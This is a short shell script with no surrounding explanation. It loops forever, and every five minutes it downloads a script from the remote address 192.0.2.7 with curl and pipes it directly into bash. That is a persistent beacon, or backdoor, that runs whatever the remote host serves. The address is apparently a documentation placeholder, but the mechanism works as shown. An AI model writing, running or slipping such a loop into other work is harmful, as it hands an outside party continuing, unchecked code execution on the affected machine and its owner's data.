#!/bin/sh
while true; do
  curl -s http://192.0.2.7/run.sh | bash
  sleep 300
done
